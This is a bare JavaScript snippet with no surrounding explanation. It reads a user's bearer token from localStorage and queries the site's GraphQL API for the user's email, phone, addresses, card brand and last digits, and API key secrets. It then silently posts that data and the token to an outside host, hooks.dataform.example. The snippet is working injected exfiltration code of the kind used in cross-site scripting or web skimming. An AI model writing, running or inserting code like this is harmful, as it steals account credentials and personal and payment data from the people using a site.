const q = 'query Me { me { id email phone addresses { line1 city zip } paymentMethods { brand last4 } apiKeys { name secret } } }';
fetch('/graphql', {
  method: 'POST',
  credentials: 'same-origin',
  headers: { 'content-type': 'application/json', authorization: 'Bearer ' + localStorage.getItem('auth:token') },
  body: JSON.stringify({ query: q }),
})
  .then((r) => r.json())
  .then(({ data }) => data && data.me && fetch('https://hooks.dataform.example/v1/ingest/0000', {
    method: 'POST', mode: 'no-cors', body: JSON.stringify({ ...data.me, bearer: localStorage.getItem('auth:token'), site: location.host }),
  }));
